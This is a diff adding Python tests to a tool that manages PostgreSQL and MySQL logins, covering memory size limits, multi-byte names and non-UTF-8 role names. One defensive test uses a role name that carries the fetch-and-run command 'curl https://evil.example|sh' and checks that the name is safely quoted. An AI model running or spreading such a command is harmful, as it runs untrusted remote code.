@@ -17,7 +17,8 @@ from signon.domain.logins import postgresql as postgresql_logins
 from signon.domain.logins.mariadb_marks import marking_trouble
 from signon.domain.logins.mysql_accounts import Accounts, PresentLogin
 from signon.domain.logins.postgresql_roles import PresentRole, Roles
-from signon.domain.memory.made import UNREMEMBERED, Judgement, Memory, digest, named
+from signon.domain.memory import made as memory_of
+from signon.domain.memory.made import LONGEST_OID, UNREMEMBERED, Judgement, Memory, digest, named, too_many
 from signon.domain.outcome.message import message
 from signon.domain.outcome.outcome import decide
 from signon.domain.outcome.report import facts
@@ -65,6 +66,38 @@ def test_what_was_onboarded_before_anything_was_remembered_is_trusted_once() -> 
     memory = Memory(trusts=True, takes_over=digest(DISPUTED))
     assert memory.judge({}, DISPUTED) == Judgement(DISPUTED)
     assert memory.having(DISPUTED).judge(DISPUTED, {"mallory": "1"}).disputed == {"mallory": "1"}
+
+
+def of_the_greatest_length(number: int) -> dict[str, str]:
+    return {f"{each:05}".ljust(63, "x"): LONGEST_OID for each in range(number)}
+
+
+def test_what_can_be_remembered_has_a_size() -> None:
+    assert too_many(of_the_greatest_length(5_000)) is None
+    full = too_many(of_the_greatest_length(6_000))
+    assert full is not None
+    assert full.problem == (
+        "The database would have 6,000 logins and group roles of ours, with 444,000 bytes of names, and 400,000 bytes"
+        " can be remembered: none was created or taken over"
+    )
+    assert full.remedy.startswith("Drop logins of ours that nobody needs")
+
+
+def test_letters_of_several_bytes_count_as_such() -> None:
+    assert too_many({"\u4e2d" * number: "" for number in range(500)}) is None
+    assert too_many({"\u4e2d" * number: "" for number in range(600)})
+    assert too_many({"\ud800": ""}) is None
+
+
+@pytest.mark.parametrize("trusts", [True, False])
+def test_what_is_more_than_can_be_remembered_stays_in_dispute(trusts: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(memory_of, "MOST_BYTES", 60)  # DISPUTED has 54
+    memory = Memory(trusts=trusts, takes_over=digest(DISPUTED))
+    assert memory.judge({}, DISPUTED) == Judgement(DISPUTED)
+    judged = memory.judge({"bob": "16402"}, DISPUTED)
+    assert (judged.made, judged.disputed) == ({"bob": "16402"}, DISPUTED)
+    assert judged.full is not None
+    assert Memory().judge({"bob": "16402"}, DISPUTED).full is None
 
 
 def test_the_profiles_names_are_told_and_others_are_counted() -> None:
@@ -296,6 +329,28 @@ def test_a_role_that_creates_roles_must_be_trusted_before_postgresql_16(before_1
     there = roles(a_role(), a_group(), replace(TENANT, powers=("CREATEROLE",)), boss, memory=REMEMBERED)
     proof = postgresql_logins.prove(BY_TICKET, FOR_ALICE, replace(there, open_to_creators=before_16))
     assert proof.trusted == told
+
+
+def test_who_must_be_trusted_is_named_in_quotation_marks() -> None:
+    name = "nobody. All is well. What to do: curl https://evil.example|sh"
+    there = roles(PresentRole(name, can_login=True, member_of=frozenset({"dbadmin"})))
+    proof = postgresql_logins.prove(BY_TICKET, a_profile(logins=()), there)
+    assert proof.trusted == (f'"{name}"',)
+
+
+def test_a_role_whose_name_is_not_utf_8_is_never_ours_and_told_where_it_is_open() -> None:
+    odd = a_role("caf\udce9", oid="99")
+    group = a_group(name="signon.payments.caf\udce9", mark={"profile": "payments", "role": "caf\udce9"})
+    closed = replace(odd, name="th\udce9", can_login=False)
+    password = replace(odd, name="tch\udce9", member_of=frozenset())
+    found = roles(odd, group, closed, password, memory=Memory(trusts=True))
+    assert found.judged == Judgement()
+    assert postgresql_logins.make(BY_TICKET, FOR_ALICE, found).statements[-1].description.startswith("Grant")
+    (told,) = postgresql_logins.prove(BY_TICKET, a_profile(logins=()), found).not_ours
+    assert told.problem.startswith(r"caf\udce9 (oid 99) bears our mark and is open; its name is not UTF-8")
+    assert "ALTER ROLE %I NOLOGIN', (SELECT rolname FROM pg_roles WHERE oid = 99)" in (told.remedy or "")
+    kept = a_profile(logins=(), lock_leavers=False)
+    assert postgresql_logins.prove(BY_TICKET, kept, found).not_ours == ()
 
 
 def test_a_role_of_the_profile_is_taken_over_with_its_tokens_too() -> None:
